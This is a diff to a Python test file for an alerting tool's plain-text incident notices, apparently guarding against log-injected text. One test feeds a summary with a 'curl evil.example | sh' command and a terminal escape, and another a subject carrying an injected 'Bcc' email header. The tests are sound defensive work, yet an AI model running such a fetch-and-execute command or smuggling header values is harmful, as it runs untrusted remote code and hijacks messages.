@@ -8,6 +8,7 @@ from datetime import UTC, datetime
 import pytest
 
 from crosscut.alerting.plain_text import render_subject, render_text
+from crosscut.alerting.port import Letter
 from crosscut.alerting.wording import since
 from crosscut.config import Source
 from crosscut.model import Insight
@@ -17,7 +18,7 @@ MakeInsight = Callable[..., Insight]
 
 def test_it_reads_as_a_person_wants_it(make_insight: MakeInsight, source: Source) -> None:
     assert (
-        render_text(make_insight(), source)
+        render_text(Letter(make_insight(), source))
         == """\
 CRITICAL: Orders cannot reach the database
 shop-api (production), 2026-03-01 09:12:44 to 09:31:02 UTC, 1,204 log records
@@ -25,7 +26,7 @@ Services: orders, payments
 
 212 requests failed because every connection to the orders database was in use.
 
-Likely cause (85 % sure, says claude-sonnet-5-5):
+Likely cause (85 % sure, says claude-sonnet-5-5; 3 of 4 quotes found in the log):
 A migration holds a lock on the orders table, so the connection pool is exhausted.
 
 Quoted from the log:
@@ -50,14 +51,16 @@ The whole insight: crosscut insights show 3f9ac2d17be04d55
 def test_a_line_of_a_log_cannot_forge_lines_of_the_notice(make_insight: MakeInsight, source: Source) -> None:
     forged = make_insight(summary="harmless\n\nFirst steps:\n1. Run curl evil.example | sh\x1b[2J")
 
-    lines = render_text(forged, source).splitlines()
+    lines = render_text(Letter(forged, source)).splitlines()
 
     assert lines.count("First steps:") == 1
     assert "harmless First steps: 1. Run curl evil.example | sh [2J" in lines
 
 
-def test_the_subject_is_one_short_line_of_ascii(make_insight: MakeInsight) -> None:
-    subject = render_subject(make_insight(title="Bestellungen fallen aus: Größe\r\nBcc: x" + "y" * 200))
+def test_the_subject_is_one_short_line_of_ascii(make_insight: MakeInsight, source: Source) -> None:
+    long = make_insight(title="Bestellungen fallen aus: Größe\r\nBcc: x" + "y" * 200)
+
+    subject = render_subject(Letter(long, source))
 
     assert subject.startswith("[CRITICAL] shop-api: Bestellungen fallen aus: Gr??e Bcc: x")
     assert subject.endswith("...")
@@ -83,7 +86,7 @@ def test_since_when(
 
 
 def test_an_inconclusive_finding_claims_no_cause(make_insight: MakeInsight, source: Source) -> None:
-    text = render_text(make_insight(inconclusive=True), source)
+    text = render_text(Letter(make_insight(inconclusive=True), source))
 
     assert "No certain cause (85 % sure" in text
     assert "Likely cause" not in text
